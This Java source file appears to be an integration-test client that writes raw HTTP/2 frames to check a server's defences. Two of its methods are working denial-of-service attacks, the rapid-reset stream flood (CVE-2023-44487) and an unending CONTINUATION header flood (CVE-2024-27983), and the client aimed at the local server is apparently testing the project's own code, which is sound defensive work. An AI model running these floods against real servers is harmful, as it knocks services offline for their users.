package dev.sluice.it.client;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.util.HashMap;
import java.util.Map;

/// HTTP/2 frame by frame (RFC 9113, 4.1), for what a proper client does not send.
public final class Http2Frames implements AutoCloseable {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int ACK = 1;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int PATIENCE_MILLIS = 30_000;
    private static final int FIELD_BYTES = 100;

    private final Socket socket;
    private final DataInputStream in;
    private final DataOutputStream out;

    private record Frame(int type, int flags, ByteBuffer payload) {}

    public Http2Frames(URI address) throws IOException {
        socket = new Socket(address.getHost(), address.getPort());
        socket.setSoTimeout(PATIENCE_MILLIS);
        in = new DataInputStream(socket.getInputStream());
        out = new DataOutputStream(socket.getOutputStream());
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        frame(SETTINGS, 0, 0);
    }

    /// What the server says of its bounds, by their numbers (RFC 9113, 6.5.2).
    public Map<Integer, Long> settings() throws IOException {
        Frame frame = next();
        while (frame.type() != SETTINGS || (frame.flags() & ACK) != 0) {
            frame = next();
        }
        var settings = new HashMap<Integer, Long>();
        ByteBuffer values = frame.payload();
        while (values.hasRemaining()) {
            settings.put((int) values.getShort(), Integer.toUnsignedLong(values.getInt()));
        }
        return settings;
    }

    /// So many requests, each taken back at once (CVE-2023-44487).
    public void beginAndReset(int count) throws IOException {
        try {
            for (int i = 0; i < count; i++) {
                int stream = 2 * i + 1;
                frame(HEADERS, END_STREAM | END_HEADERS, stream, request());
                frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL});
            }
        } catch (SocketException e) {
            // Put out already.
        }
    }

    /// One request whose fields do not end (CVE-2024-27983 and its kin).
    public void sendFieldsWithoutEnd(int count) throws IOException {
        try {
            frame(HEADERS, END_STREAM, 1, request());
            for (int i = 0; i < count; i++) {
                var block = new ByteArrayOutputStream();
                field(block, "x-" + i, "a".repeat(FIELD_BYTES));
                frame(CONTINUATION, 0, 1, block.toByteArray());
            }
        } catch (SocketException e) {
            // Put out already.
        }
    }

    /// Whether the connection comes to its end, in time.
    public boolean isClosedByServer() throws IOException {
        try {
            while (true) {
                var _ = next();
            }
        } catch (SocketTimeoutException e) {
            return false;
        } catch (EOFException | SocketException e) {
            return true;
        }
    }

    private Frame next() throws IOException {
        int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
        int type = in.readUnsignedByte();
        int flags = in.readUnsignedByte();
        in.skipNBytes(Integer.BYTES);
        return new Frame(type, flags, ByteBuffer.wrap(in.readNBytes(length)));
    }

    private void frame(int type, int flags, int stream, byte... payload) throws IOException {
        var frame = new ByteArrayOutputStream();
        var fields = new DataOutputStream(frame);
        fields.writeByte(payload.length >> 16);
        fields.writeShort(payload.length);
        fields.writeByte(type);
        fields.writeByte(flags);
        fields.writeInt(stream);
        fields.write(payload);
        out.write(frame.toByteArray());
    }

    private static byte[] request() {
        var block = new ByteArrayOutputStream();
        field(block, ":method", "GET");
        field(block, ":scheme", "http");
        field(block, ":path", "/health/live");
        field(block, ":authority", "127.0.0.1");
        return block.toByteArray();
    }

    /// A literal field, not indexed (RFC 7541, 6.2.2).
    private static void field(ByteArrayOutputStream block, String name, String value) {
        block.write(0);
        for (String text : new String[] {name, value}) {
            block.write(text.length());
            block.writeBytes(text.getBytes(US_ASCII));
        }
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
